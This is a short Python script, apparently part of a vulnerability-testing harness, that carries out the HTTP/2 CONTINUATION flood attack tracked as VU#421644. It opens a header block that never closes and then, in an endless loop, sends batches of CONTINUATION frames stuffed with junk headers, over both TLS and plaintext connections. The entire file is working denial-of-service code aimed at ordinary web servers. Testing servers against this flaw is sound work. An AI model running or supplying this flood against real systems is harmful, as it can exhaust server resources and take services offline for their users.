"""Headers that never end: one CONTINUATION after the other (VU#421644)."""

import wire

WAYS = ("tls", "plain")
FLOOR = {"frames": 200}
BATCH = 8


def attack(target):
    target.again_and_again(lambda connection: flood(target, connection))


def flood(target, connection):
    begin = b"".join(wire.literal(name, value) for name, value in
                     wire.request_headers(wire.LIST_DISPLAYS, target.scheme))
    connection.queue(wire.frame(wire.HEADERS, 0, connection.next_stream, begin))
    more = b"".join(wire.literal(f"x-{number:03}", "y" * 100) for number in range(140))
    more = wire.frame(wire.CONTINUATION, 0, connection.next_stream, more)
    while True:
        connection.send(more * BATCH)
        connection.count("frames", BATCH)
